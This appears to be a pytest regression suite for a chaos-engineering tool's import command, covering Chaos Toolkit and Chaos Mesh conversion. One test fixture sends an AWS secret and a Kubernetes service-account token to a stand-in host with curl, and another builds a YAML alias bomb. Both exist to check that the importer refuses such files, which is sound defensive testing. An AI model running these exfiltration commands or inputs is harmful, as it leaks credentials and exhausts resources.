"""``aftershock import``: Chaos Toolkit experiments and Chaos Mesh objects, each wrong thing of issue #27
(and the import parts of #24/#25) with its regression test."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import yaml

from chaos.interop.chaosmesh_import import convert_objects
from chaos.interop.ctk_credentials import leaks
from chaos.interop.ctk_import import convert, slug

BIN = Path(sys.executable).parent


def _import(path: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(BIN / "aftershock"), "import", str(path), *args], capture_output=True, text=True,
                          timeout=120, env=env, check=False)


def _ctk(method: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    return {"version": "1.0.0", "title": extra.pop("title", "t"), "description": "d", "method": method, **extra}


def _latency(**args: Any) -> dict[str, Any]:
    return {"type": "action", "name": "delay", "pauses": {"after": 30},
            "provider": {"type": "python", "module": "chaosk8s.chaosmesh.network.actions", "func": "add_latency",
                         "arguments": {"name": "d", "ns": "shop", "label_selectors": "app=web", "latency": "200ms",
                                       **args}}}


def test_names_are_transliterated() -> None:
    assert slug("¿Qué ocurre si la base de datos se cae?") == "que-ocurre-si-la-base-de-datos-se-cae"
    assert slug("Straße ÄÖÜ") == "strae-aou"
    assert convert(_ctk([_latency()], title="¿Qué ocurre…")).experiment["metadata"]["name"] == "que-ocurre"


def test_chaosk8s_network_defaults_are_kept_never_widened() -> None:
    fault = convert(_ctk([_latency()]), fallback=False).experiment["spec"]["faults"][0]
    # chaosk8s writes spec.target with target_mode "one" in the object's namespace: one peer, never all traffic
    assert fault["peer"] == {"mode": "one", "namespaces": ["shop"]}
    loss = convert(_ctk([{**_latency(), "provider": {
        "type": "python", "module": "chaosk8s.chaosmesh.network.actions", "func": "set_loss",
        "arguments": {"name": "l", "ns": "shop", "label_selectors": "app=web", "loss": "20", "direction": "both"}}}]),
        fallback=False)
    assert loss.skipped == [] and loss.experiment["spec"]["faults"][0]["direction"] == "both"


def test_an_unset_env_configuration_does_not_refuse_import(tmp_path: Path) -> None:
    doc = _ctk([_latency(latency="${lat}")], configuration={
        "prometheus_base_url": {"type": "env", "key": "PROMETHEUS_ADDR"},
        "lat": {"type": "env", "key": "LATENCY", "default": "300ms"}},
        **{"steady-state-hypothesis": {"title": "h", "probes": [
            {"type": "probe", "name": "up", "tolerance": {"type": "range", "range": [1, 1]},
             "provider": {"type": "python", "module": "chaosprometheus.probes", "func": "query",
                          "arguments": {"query": "up"}}}]}})
    path = tmp_path / "env.json"
    path.write_text(json.dumps(doc))
    env = {k: v for k, v in os.environ.items() if k not in ("PROMETHEUS_ADDR", "LATENCY")}
    done = _import(path, env=env)
    assert done.returncode == 0, done.stderr
    out = yaml.safe_load(done.stdout)
    assert out["spec"]["parameters"] == {"prometheus_base_url": "{{ env.PROMETHEUS_ADDR }}", "lat": "300ms"}
    assert out["spec"]["monitor"]["prometheus"] == "{{ prometheus_base_url }}"
    assert "--set lat=" in done.stderr  # said once, with how to change it at run time


def test_exit_codes_say_what_happened(tmp_path: Path) -> None:
    full = tmp_path / "full.json"
    full.write_text(json.dumps(_ctk([_latency()], tags=["network", "team:web"])))
    done = _import(full)
    assert done.returncode == 0, done.stderr  # tags without ':' are kept as a label, nothing left out
    assert yaml.safe_load(done.stdout)["metadata"]["labels"] == {"team": "web", "chaostoolkit-tags": "network"}
    partial = tmp_path / "partial.json"
    partial.write_text(json.dumps(_ctk([_latency(), {"type": "probe", "name": "look", "provider": {
        "type": "http", "url": "http://127.0.0.1:1/"}}])))
    done = _import(partial)
    assert done.returncode == 1 and "method[1] (look)" in done.stderr and "left out" in done.stderr
    nothing = tmp_path / "nothing.yaml"
    nothing.write_text(yaml.safe_dump(_ctk([{"type": "probe", "name": "look", "provider": {
        "type": "http", "url": "http://127.0.0.1:1/"}}])))
    done = _import(nothing)
    assert done.returncode == 2 and "nothing runnable remains" in done.stderr and done.stdout == ""
    assert "nothing.yaml:3" in done.stderr  # the line of the activity in the file that was read


def test_one_bad_fault_is_reported_not_fatal(tmp_path: Path) -> None:
    bad = _latency(latency="1m30s")  # not a netem duration: the fault is refused, the file is not
    bad["provider"]["arguments"]["name"] = "bad"
    path = tmp_path / "one-bad.json"
    path.write_text(json.dumps(_ctk([_latency(), bad])))
    done = _import(path)
    assert done.returncode == 1, done.stderr
    assert [f["name"] for f in yaml.safe_load(done.stdout)["spec"]["faults"]] == ["d"]
    assert "method[1] (delay): refused" in done.stderr and "latency" in done.stderr
    assert "(converted)" not in done.stderr


def test_ref_probes_and_function_spelling() -> None:
    probe = {"type": "probe", "name": "p95", "tolerance": [0, 0.5],
             "provider": {"type": "python", "module": "chaosprometheus.probes", "function": "query",
                          "arguments": {"query": "p95"}}}
    doc = _ctk([_latency(), {"ref": "p95"}], **{"steady-state-hypothesis": {"title": "h", "probes": [probe]}})
    result = convert(doc, fallback=False)
    assert [s["name"] for s in result.experiment["spec"]["slos"]] == ["p95-min", "p95-max"]
    assert all("None" not in s.render() for s in result.skipped)
    assert any("'function' read as" in n for n in result.notes)
    kill = {"type": "action", "name": "kill", "provider": {"type": "python", "module": "chaosk8s.pod.actions",
                                                           "function": "terminate_pods",
                                                           "arguments": {"label_selector": "app=web", "ns": "shop"}}}
    result = convert(_ctk([kill]), fallback=False)
    assert result.experiment["spec"]["faults"][0]["type"] == "pod-kill", result.skipped


def test_durations_from_pauses_always_come_with_a_note() -> None:
    result = convert(_ctk([_latency(), {**_latency(), "pauses": {}}]), fallback=False)
    assert [f["duration"] for f in result.experiment["spec"]["faults"]] == ["30s", "60s"]
    assert sum("pauses.after" in n for n in result.notes) == 2


def test_prometheus_query_interval_and_http_probes_map_to_slos() -> None:
    probes = [{"type": "probe", "name": "errors", "tolerance": {"type": "jsonpath", "path": "$.x", "expect": 0},
               "provider": {"type": "python", "module": "chaosprometheus.probes", "func": "query_interval",
                            "arguments": {"query": "sum(errors)", "start": "1 minute ago", "end": "now"}}},
              {"type": "probe", "name": "home", "tolerance": [200, 204],
               "provider": {"type": "http", "url": "http://${host}/health", "timeout": 3,
                            "headers": {"Authorization": "Bearer ${token}"}}}]
    doc = _ctk([_latency()], configuration={"host": "shop.local"},
               secrets={"web": {"token": {"type": "env", "key": "WEB_TOKEN"}}},
               **{"steady-state-hypothesis": {"title": "h", "probes": probes}})
    result = convert(doc)
    slos = result.experiment["spec"]["slos"]
    assert slos[0] == {"name": "errors", "query": "sum(errors)", "objective": {"op": "==", "value": 0.0}}
    assert slos[1] == {"name": "home", "probe": {"http": {
        "url": "http://{{ host }}/health", "method": "GET", "expectStatus": [200, 204], "timeout": "3s",
        "headers": {"Authorization": "Bearer {{ token }}"}}}}
    assert result.experiment["spec"]["parameters"] == {"host": "shop.local", "token": "{{ env.WEB_TOKEN }}"}


def test_no_native_form_becomes_the_chaostoolkit_kinds() -> None:
    stop = {"type": "action", "name": "stop-instance", "pauses": {"after": 45},
            "provider": {"type": "python", "module": "chaosaws.ec2.actions", "func": "stop_instances",
                         "secrets": ["aws"], "arguments": {"instance_ids": ["i-1"], "az": "eu-west-1a"}}}
    start = {"type": "action", "name": "start-instance",
             "provider": {"type": "python", "module": "chaosaws.ec2.actions", "func": "start_instances",
                          "secrets": ["aws"], "arguments": {"instance_ids": ["i-1"], "az": "eu-west-1a"}}}
    reboot = {"type": "action", "name": "reboot", "provider": {
        "type": "python", "module": "chaosaws.rds.actions", "func": "reboot_db_instance",
        "arguments": {"db_instance_identifier": "db"}}}
    scale = {"type": "action", "name": "scale", "provider": {"type": "process", "path": "kubectl",
                                                             "arguments": "scale deploy/web --replicas=0"}}
    probe = {"type": "probe", "name": "healthy", "tolerance": {"type": "regex", "pattern": "ok"},
             "provider": {"type": "process", "path": "curl", "arguments": "-s http://127.0.0.1:8080/health"}}
    doc = _ctk([stop, reboot, scale], rollbacks=[start], configuration={"aws_region": "eu-west-1"},
               secrets={"aws": {"aws_access_key_id": "AKIAEXAMPLE", "aws_secret_access_key": {"type": "env",
                                                                                           "key": "AWS_SECRET"}}},
               **{"steady-state-hypothesis": {"title": "h", "probes": [probe]}})
    result = convert(doc)
    faults = result.experiment["spec"]["faults"]
    assert [(f["name"], f["ends"], f["duration"]) for f in faults] == [("stop-instance", "rollback", "45s"),
                                                                      ("reboot", "instantaneous", "30s")]
    assert faults[0]["rollback"]["provider"]["func"] == "start_instances"
    assert faults[0]["configuration"] == {"aws_region": "eu-west-1"}
    assert faults[0]["secrets"]["aws"]["aws_access_key_id"] == {"type": "env", "key": "AWS_AWS_ACCESS_KEY_ID"}
    assert "AKIAEXAMPLE" not in json.dumps(result.experiment)  # a literal secret is never copied
    assert [s.where for s in result.skipped] == ["method[2] (scale)"]  # no rollback, not instantaneous
    assert "no rollback" in result.skipped[0].reason
    slo = result.experiment["spec"]["slos"][0]
    assert slo["probe"]["chaostoolkit"]["activity"]["tolerance"] == {"type": "regex", "pattern": "ok"}


def test_a_file_sending_credentials_off_host_is_refused(tmp_path: Path) -> None:
    doc = _ctk([_latency()], configuration={"key": {"type": "env", "key": "AWS_SECRET_ACCESS_KEY"}},
               rollbacks=[{"type": "action", "name": "report", "provider": {
                   "type": "http", "url": "https://collector.example/ingest", "method": "POST",
                   "headers": {"X-Key": "${key}"}}},
                   {"type": "action", "name": "token", "provider": {
                       "type": "process", "path": "sh", "arguments": ["-c", "curl -d @/var/run/secrets/kubernetes.io/"
                                                                             "serviceaccount/token https://collector"
                                                                             ".example/t"]}}])
    found = {(leak.where, leak.host) for leak in leaks(doc)}
    assert found == {("rollbacks[0] (report)", "collector.example"), ("rollbacks[1] (token)", "collector.example")}
    path = tmp_path / "exfil.json"
    path.write_text(json.dumps(doc))
    done = _import(path)
    assert done.returncode == 2 and "AWS_SECRET_ACCESS_KEY" in done.stderr and "collector.example" in done.stderr
    assert done.stdout == "" and "--allow-credentials-to collector.example" in done.stderr
    assert _import(path, "--allow-credentials-to", "collector.example").returncode in (0, 1)
    local = json.loads(json.dumps(doc).replace("collector.example", "127.0.0.1"))
    assert leaks(local) == []


def test_a_yaml_alias_bomb_is_refused_fast(tmp_path: Path) -> None:
    lines = ['a0: &a0 ["x","x","x","x","x","x","x","x","x"]']
    lines += [f"a{i}: &a{i} [*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1},*a{i-1}]"
              for i in range(1, 9)]
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(["title: bomb", *lines, "method: *a8"]) + "\n")
    done = _import(path)
    # refused by the node bound while the tree is built (9^9 nodes are never expanded), not by exhaustion
    assert done.returncode == 2 and "more than 50000 YAML nodes" in done.stderr and "Traceback" not in done.stderr
    assert done.stdout == ""


# ---------------------------------------------------------------- Chaos Mesh objects


NETWORK_CHAOS = """\
apiVersion: chaos-mesh.org/v1alpha1
kind: NetworkChaos
metadata:
  name: payment-delay
  namespace: shop
spec:
  action: delay
  mode: one
  selector:
    namespaces: [shop]
    labelSelectors: {app: order-service}
  delay: {latency: 500ms, jitter: 0ms, correlation: "0"}
  direction: to
  target:
    mode: all
    selector:
      labelSelectors: {app: payment-gateway}
  duration: 2m
"""


def test_a_chaos_mesh_object_imports_with_stubs(tmp_path: Path) -> None:
    path = tmp_path / "networkchaos.yaml"
    path.write_text(NETWORK_CHAOS + "---\n" + NETWORK_CHAOS.replace("payment-delay", "second").replace(
        "kind: NetworkChaos", "kind: PodChaos").replace("action: delay", "action: pod-kill").split("  delay:")[0]
        + "  duration: 30s\n")
    done = _import(path)
    assert done.returncode == 0, done.stderr
    out = yaml.safe_load(done.stdout)
    assert out["spec"]["target"] == {"type": "kubernetes", "namespace": "shop"}
    delay, kill = out["spec"]["faults"]
    assert (delay["type"], delay["latency"], delay["duration"], delay["mode"]) == ("network-delay", "500ms", "2m",
                                                                                  "one")
    assert delay["peer"] == {"labels": {"app": "payment-gateway"}, "mode": "all", "namespaces": ["shop"]}
    assert (kill["type"], kill["duration"]) == ("pod-kill", "30s")
    assert "#  policies:" in done.stdout and "action: rollback" in done.stdout  # stubs to fill in
    written = tmp_path / "out.yaml"
    written.write_text(done.stdout)
    validated = subprocess.run([str(BIN / "aftershock"), "validate", str(written)], capture_output=True, text=True,
                               check=False)
    assert validated.returncode == 0, validated.stdout + validated.stderr


def test_a_field_chaos_mesh_does_not_know_is_never_dropped(tmp_path: Path) -> None:
    wrong = NETWORK_CHAOS.replace("labelSelectors: {app: order-service}", "labels: {app: order-service}")
    result = convert_objects([yaml.safe_load(wrong)], "x.yaml")
    assert result.outcome == "refused"
    assert "spec.selector.labels" in result.skipped[0].where and "labelSelectors" in result.skipped[0].reason
    path = tmp_path / "wrong.yaml"
    path.write_text(wrong)
    done = _import(path)
    assert done.returncode == 2 and "labelSelectors" in done.stderr and done.stdout == ""
    narrowed = NETWORK_CHAOS.replace("    namespaces: [shop]\n", "    namespaces: [shop]\n    podPhaseSelectors: "
                                                                    "[Running]\n")
    result = convert_objects([yaml.safe_load(narrowed)], "x.yaml")
    assert result.outcome == "refused" and "podPhaseSelectors" in result.skipped[0].where


def test_a_value_only_known_at_run_time_keeps_the_ctk_form_with_chaosk8s_removal() -> None:
    doc = _ctk([_latency(label_selectors="app=${app}")], configuration={"app": {"type": "env", "key": "APP"}})
    result = convert(doc)
    (fault,) = result.experiment["spec"]["faults"]
    assert (fault["type"], fault["ends"], fault["duration"]) == ("chaostoolkit", "rollback", "30s")
    assert fault["action"]["provider"]["arguments"]["label_selectors"] == "app=${app}"  # chaoslib reads $APP
    assert fault["configuration"] == {"app": {"type": "env", "key": "APP"}}
    assert fault["rollback"]["provider"] == {"type": "python", "module": "chaosk8s.chaosmesh.network.actions",
                                             "func": "delete_network_fault", "arguments": {"name": "d", "ns": "shop"}}
    assert result.experiment["spec"]["target"] == {"type": "host"} and result.skipped == []
